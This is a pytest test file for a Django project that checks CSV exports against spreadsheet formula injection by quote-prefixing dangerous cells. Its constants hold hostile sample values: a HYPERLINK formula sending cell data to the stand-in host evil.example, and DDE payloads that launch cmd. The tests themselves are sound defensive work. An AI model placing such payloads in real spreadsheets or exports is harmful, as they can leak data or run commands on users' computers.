"""CSV formula injection: a text that a spreadsheet would run as a formula (`=`, `+`, `-`,
`@`, tab, carriage return first) comes out of every CSV export with a single quote in front
(OWASP), so that Excel or LibreOffice show it as text. The other cells are unchanged."""

import csv
import io

import pytest
from django.urls import reverse

from config.csv_export import safe_cell
from tests.factories import (
    ActionFactory,
    ActionPlanFactory,
    ConventionFactory,
    OrganisationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CARRIAGE_RETURN = "\r=1+1"


def _read_csv(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", [HYPERLINK, DDE, AT_SUM, MINUS, TAB, CARRIAGE_RETURN])
def test_a_formula_is_written_as_text(formula):
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "value", ["CRESS PACA", "Économie ; sociale", "", "A=B", "1+1", "'déjà cité", 12, -3, None]
)
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_conventions_export_neutralises_formulas(reader_client):
    academy = OrganisationFactory(academy=True)
    evil_partner = OrganisationFactory(name=AT_SUM, short_name="EVIL")
    referent = UserFactory(first_name=MINUS, last_name="Dupont")
    ConventionFactory(
        reference="EVIL-1",
        title=HYPERLINK,
        parties=[evil_partner, academy],
        referent=referent,
        signed=True,
    )
    ConventionFactory(reference="SAGE-1", title="Économie sociale et solidaire")

    rows = _read_csv(reader_client.get(reverse("conventions:export"), {"o": "reference"}))

    by_reference = {row[0]: row for row in rows[1:]}
    evil = by_reference["EVIL-1"]
    assert evil[1] == "'" + HYPERLINK  # the title, as text: no link, no A1 sent away
    assert evil[4].startswith("'" + AT_SUM)  # the partners' names, first one a formula
    assert evil[10] == f"'{MINUS} Dupont"  # the référent
    assert evil[5] == "17 mai 2010"  # a date is not touched
    assert by_reference["SAGE-1"][1] == "Économie sociale et solidaire"
    # No cell of the file, header included, would be read as a formula.
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_actions_export_neutralises_formulas(reader_client):
    plan = ActionPlanFactory(school_year=2010)
    ActionFactory(
        plan=plan,
        number=1,
        axis=AT_SUM,
        title=DDE,
        objective=TAB,
        start_label=CARRIAGE_RETURN,
        results_comment=MINUS,
        pupils_reached=40,
    )
    ActionFactory(plan=plan, number=2, title="Salon Métierama")

    rows = _read_csv(reader_client.get(reverse("actions:export")))

    assert len(rows) == 3
    evil, plain = sorted(rows[1:], key=lambda row: row[3])
    assert evil[2] == "'" + AT_SUM
    assert evil[4] == "'" + DDE
    assert evil[5] == "'" + TAB
    assert evil[6] == "'" + CARRIAGE_RETURN  # kept whole, the carriage return inside quotes
    assert evil[11] == "'" + MINUS
    assert evil[3] == "1" and evil[9] == "40"  # numbers are left as numbers
    assert plain[4] == "Salon Métierama"
    assert not [
        cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
